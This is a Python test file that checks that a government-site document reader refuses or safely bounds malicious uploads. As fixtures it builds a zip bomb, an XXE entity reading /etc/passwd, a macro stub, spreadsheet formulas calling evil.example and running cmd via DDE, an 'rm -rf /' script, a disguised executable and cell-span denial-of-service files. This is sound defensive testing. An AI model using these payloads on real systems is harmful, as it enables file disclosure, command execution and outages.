"""Files made to do harm: refused or read, in bounded time and memory."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from word_files import national_workbook, saved

from govsite.attachments.limits import ExtractLimits
from govsite.intake.bring import Wishes, bring
from govsite.intake.read import read_material

_SECONDS = 20.0


def _repacked(data: bytes, changes: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info))
        for name, content in changes.items():
            target.writestr(name, content)
    return buffer.getvalue()


def _word() -> bytes:
    document = docx.Document()
    document.add_paragraph("关于值班的通知")
    return saved(document)


def _kinds(data: bytes, name: str) -> set[str]:
    started = time.process_time()
    material = read_material(data, name)
    assert time.process_time() - started < _SECONDS
    return {fault.kind for fault in material.faults}


def test_a_zip_bomb_is_refused() -> None:
    bomb = _repacked(_word(), {"word/document.xml": b"<document><body>" + b" " * 300_000_000})
    assert len(bomb) < 1_000_000
    material = read_material(bomb, "炸弹.docx")
    assert {"too_large", "broken"} & {fault.kind for fault in material.faults}
    assert material.blocks == ()


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/numbering.xml"])
def test_external_entities_are_never_resolved(part: str) -> None:
    evil = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    material = read_material(_repacked(_word(), {part: evil}), "实体.docx")
    assert "broken" in {fault.kind for fault in material.faults}
    assert "root:" not in repr(material.blocks)


def test_macros_are_named_and_not_imported() -> None:
    data = _repacked(_word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    material = read_material(data, "宏.docx")
    assert "macro" in {fault.kind for fault in material.faults}
    assert all(not file.name.endswith(".bin") for file in material.embedded)


def test_formulas_that_call_out_are_reported_and_never_run() -> None:
    book = openpyxl.load_workbook(io.BytesIO(national_workbook()))
    book.active["H4"] = '=WEBSERVICE("http://evil.example/")'
    book.active["G4"] = "=cmd|'/c calc'!A0"
    material = read_material(saved(book), "公式.xlsx")
    places = {fault.place for fault in material.faults if fault.kind == "external_link"}
    assert {"清单!H4", "清单!G4"} <= places


def test_a_hundred_thousand_merged_cells_are_refused_in_time() -> None:
    data = national_workbook()
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        sheet = file.read("xl/worksheets/sheet1.xml")
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (row, row) for row in range(10, 100_010))
    evil = sheet.replace(b"</mergeCells>", merges + b"</mergeCells>")
    assert "too_large" in _kinds(_repacked(data, {"xl/worksheets/sheet1.xml": evil}), "合并.xlsx")


def test_one_merged_cell_over_the_whole_sheet_costs_nothing() -> None:
    data = national_workbook()
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        sheet = file.read("xl/worksheets/sheet1.xml")
    evil = sheet.replace(b"</mergeCells>", b'<mergeCell ref="A7:XFD1048576"/></mergeCells>')
    started = time.process_time()
    brought = bring(
        read_material(_repacked(data, {"xl/worksheets/sheet1.xml": evil}), "大.xlsx"),
        Path("nowhere"),
        Wishes("catalog"),
    )
    assert time.process_time() - started < _SECONDS
    assert brought.files


def test_html_spans_of_a_million_are_bounded() -> None:
    page = "<table>" + "<tr><td rowspan=999999 colspan=999999>a</td></tr>" * 50 + "</table>"
    assert _kinds(page.encode(), "a.html") <= {"too_large", "too_slow"}


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000,
        b"PK\x03\x04broken",
        b"%PDF-1.4 broken",
    ],
)
def test_broken_containers_are_reported(data: bytes) -> None:
    for name in ("坏.doc", "坏.xls", "坏.docx", "坏.pdf"):
        material = read_material(data, name)
        assert material.faults
        assert not bring(material, Path("nowhere"), Wishes()).files


def test_programs_and_old_word_files_are_refused_with_a_reason() -> None:
    assert "executable" in _kinds(b"MZ\x00\x00" + b"\x00" * 200, "通知.docx")
    assert not read_material(b"#!/bin/sh\nrm -rf /\n", "通知.txt").blocks


def test_reading_stops_at_the_limits_of_the_caller() -> None:
    limits = ExtractLimits(file_bytes=1000)
    assert {fault.kind for fault in read_material(_word(), "大.docx", limits).faults} == {"too_large"}
